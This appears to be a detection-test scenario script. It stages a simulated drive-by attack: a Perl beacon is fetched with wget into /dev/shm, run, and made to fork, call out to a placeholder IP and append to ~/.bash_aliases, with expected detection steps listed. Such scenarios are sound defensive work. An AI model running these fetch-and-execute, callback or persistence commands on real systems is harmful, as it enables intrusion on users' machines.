title="A file of a chat's CDN fetched to /dev/shm and run by perl"
what="ops looks at a chat in Chromium, then runs wget -O /dev/shm/.t https://cdn.example.com/... and perl /dev/shm/.t, which forks into the background and connects to 203.0.113.67 port 8443 after the shell is gone; the file is removed."
host=ws3.example.org user=ops daemons="cron sshd"
setup() {
  mkdir -p "$base/out/www/p"
  printf 'use IO::Socket::INET; exit if fork; sleep 3; my $s = IO::Socket::INET->new("203.0.113.67:8443") or exit; print $s "t\\n"; close $s; open F, ">>", "$ENV{HOME}/.bash_aliases"; print F "# t\\n"; close F;\n' > "$base/out/www/p/t.dat"
  printf '<html>room</html>' > "$base/out/www/p/room.html"
}
act() {
  small_talk 1
  display_up
  chromium_as ops https://chat.example.com/p/room.html
  sleep 9
  desktop_close
  console_as ops <<'L'
wget -q --no-check-certificate -O /dev/shm/.t https://cdn.example.com/p/t.dat
perl /dev/shm/.t
rm /dev/shm/.t
L
  sleep 4
  small_talk 1
}
truth() {
  net_step visit 'chromium.* 203.0.113.82:443' 'the chat'
  exec_step fetch 'wget -q --no-check-certificate -O /dev/shm/.t' 'fetched'
  exec_step execute 'perl /dev/shm/.t' 'run'
  net_step beacon 'perl 203.0.113.67:8443' 'it calls out'
}
